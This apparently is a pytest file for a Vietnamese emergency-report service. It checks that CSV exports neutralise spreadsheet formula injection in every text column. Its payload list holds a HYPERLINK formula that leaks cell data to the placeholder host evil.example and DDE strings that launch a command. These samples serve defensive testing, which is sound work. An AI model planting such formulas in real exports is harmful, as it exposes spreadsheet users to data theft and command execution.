"""CSV export cells that a spreadsheet would run as a formula are neutralised (OWASP CSV
injection: a leading single quote), whatever the column; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from sosbot.api.export import csv_columns, to_csv
from sosbot.api.queries import ITEM_FIELDS

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")", "+84901234567",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def item(value: str) -> dict[str, Any]:
    base: dict[str, Any] = {name: None for name in ITEM_FIELDS}
    base.update(code="SOS-250001", category="fire", status="new", lat=-10.5, lon=106.7,
                media_count=0, duplicates=0, escalation_level=0)
    for name in ("ward_name", "address_text", "description", "location_how"):
        base[name] = value
    base["reporter"] = {"display_name": value, "username": value, "phone": value,
                        "platform_user_id": value, "chat_id": value}
    return base


def rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS, ids=["=", "+", "-", "@", "tab", "cr"])
def test_each_formula_start_is_neutralised_in_every_text_column(payload: str) -> None:
    [row] = rows(to_csv([item(payload)], pii=True))
    texts = ["ward_name", "address_text", "description", "location_how",
             *[c for c in csv_columns(True) if c.startswith("reporter_")]]
    for column in texts:
        assert row[column] == "'" + payload, column
    assert (row["lat"], row["lon"], row["code"]) == ("-10.5", "106.7", "SOS-250001")


def test_harmless_text_is_left_as_it_is() -> None:
    [row] = rows(to_csv([item("Cháy kho gỗ = nguy hiểm")], pii=True))
    assert row["description"] == "Cháy kho gỗ = nguy hiểm"
    assert row["reporter_phone"] == "Cháy kho gỗ = nguy hiểm"
